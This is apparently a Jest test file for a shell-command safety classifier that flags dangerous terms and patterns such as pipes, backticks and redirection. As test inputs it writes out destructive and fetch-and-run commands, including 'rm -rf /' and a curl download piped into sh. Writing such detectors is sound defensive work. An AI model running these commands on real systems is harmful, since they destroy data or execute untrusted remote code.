import { describe, expect, it, jest } from "@jest/globals";
import {
  classify,
  createClassifier,
  parseTermList,
  riskLevelForMatchCount,
} from "./command-security";
import { DEFAULT_DANGEROUS_TERMS } from "./patterns";
import { RiskLevel } from "./types";

describe("classify", () => {
  it("flags a configured dangerous term as medium risk", () => {
    const result = classify("please rm -rf /tmp", ["rm -rf"]);

    expect(result).toEqual({
      safe: false,
      riskLevel: RiskLevel.MEDIUM,
      matchedDangerousTerms: ["rm -rf"],
      warnings: ["Dangerous command detected: rm -rf"],
    });
  });

  it("matches dangerous terms regardless of case", () => {
    const result = classify("SHUTDOWN -h now", ["shutdown"]);

    expect(result.safe).toBe(false);
    expect(result.matchedDangerousTerms).toEqual(["shutdown"]);
  });

  it("marks a pipe as unsafe while keeping the risk level low", () => {
    const result = classify("echo hello | cat", []);

    expect(result).toEqual({
      safe: false,
      riskLevel: RiskLevel.LOW,
      matchedDangerousTerms: [],
      warnings: ["Suspicious pattern (pipe or chain operator): [|&;]"],
    });
  });

  it("treats plain commands as safe and low risk", () => {
    const result = classify("ls -la", DEFAULT_DANGEROUS_TERMS);

    expect(result).toEqual({
      safe: true,
      riskLevel: RiskLevel.LOW,
      matchedDangerousTerms: [],
      warnings: [],
    });
  });

  it("records every overlapping term in policy order", () => {
    const result = classify("bash script.sh", ["sh", "bash"]);

    expect(result.matchedDangerousTerms).toEqual(["sh", "bash"]);
    expect(result.riskLevel).toBe(RiskLevel.MEDIUM);
  });

  it("rates more than two matches as high risk", () => {
    const result = classify("rm -rf /", ["rm", "rm -rf", "-rf", "/"]);

    expect(result.matchedDangerousTerms).toEqual(["rm", "rm -rf", "-rf", "/"]);
    expect(result.riskLevel).toBe(RiskLevel.HIGH);
  });

  it("reports downloads piped into a shell with both checks", () => {
    const result = classify("curl http://example.test/x | sh", DEFAULT_DANGEROUS_TERMS);

    expect(result.matchedDangerousTerms).toEqual(["curl", "sh"]);
    expect(result.riskLevel).toBe(RiskLevel.MEDIUM);
    expect(result.warnings).toEqual([
      "Dangerous command detected: curl",
      "Dangerous command detected: sh",
      "Suspicious pattern (pipe or chain operator): [|&;]",
    ]);
  });

  it.each([
    ["echo $(whoami)", "command substitution"],
    ["echo `id`", "backtick execution"],
    ["echo hi > /etc/motd", "redirection into a root path"],
    ["sort <input> out", "angle-bracket redirection"],
    ["make && make install", "pipe or chain operator"],
  ])("detects %s as %s", (command, description) => {
    const result = classify(command, []);

    expect(result.safe).toBe(false);
    expect(result.riskLevel).toBe(RiskLevel.LOW);
    expect(result.warnings).toHaveLength(1);
    expect(result.warnings[0]).toContain(`(${description})`);
  });

  it("checks every pattern without stopping at the first hit", () => {
    const result = classify("a && b; `c`", []);

    expect(result.warnings).toEqual([
      "Suspicious pattern (pipe or chain operator): [|&;]",
      "Suspicious pattern (backtick execution): `[^`]*`",
    ]);
  });

  it("matches patterns case-sensitively against the original text", () => {
    const patterns = [{ pattern: /SUDO/, description: "upper-case sudo" }];

    expect(classify("sudo ls", [], patterns).safe).toBe(true);
    expect(classify("SUDO ls", [], patterns).safe).toBe(false);
  });

  it("returns the same verdict for repeated calls", () => {
    const first = classify("echo a; rm -rf x", ["rm -rf"]);
    const second = classify("echo a; rm -rf x", ["rm -rf"]);

    expect(second).toEqual(first);
  });
});

describe("riskLevelForMatchCount", () => {
  it("buckets match counts", () => {
    expect(riskLevelForMatchCount(0)).toBe(RiskLevel.LOW);
    expect(riskLevelForMatchCount(1)).toBe(RiskLevel.MEDIUM);
    expect(riskLevelForMatchCount(2)).toBe(RiskLevel.MEDIUM);
    expect(riskLevelForMatchCount(3)).toBe(RiskLevel.HIGH);
  });
});

describe("createClassifier", () => {
  it("logs unsafe verdicts as warnings", () => {
    const logger = { warn: jest.fn(), info: jest.fn() };
    const check = createClassifier({ dangerousTerms: ["reboot"] }, logger);

    const result = check("sudo reboot");

    expect(result.matchedDangerousTerms).toEqual(["reboot"]);
    expect(logger.warn).toHaveBeenCalledWith("Command classified as unsafe", {
      command: "sudo reboot",
      riskLevel: RiskLevel.MEDIUM,
      matchedDangerousTerms: ["reboot"],
      warnings: 1,
    });
    expect(logger.info).not.toHaveBeenCalled();
  });

  it("copies the term list so later edits do not change verdicts", () => {
    const terms = ["halt"];
    const check = createClassifier({ dangerousTerms: terms });
    terms.push("ls");

    expect(check("ls").safe).toBe(true);
  });
});

describe("parseTermList", () => {
  it("splits on commas and drops blank entries", () => {
    expect(parseTermList(" rm -rf, ,curl ,")).toEqual(["rm -rf", "curl"]);
  });
});
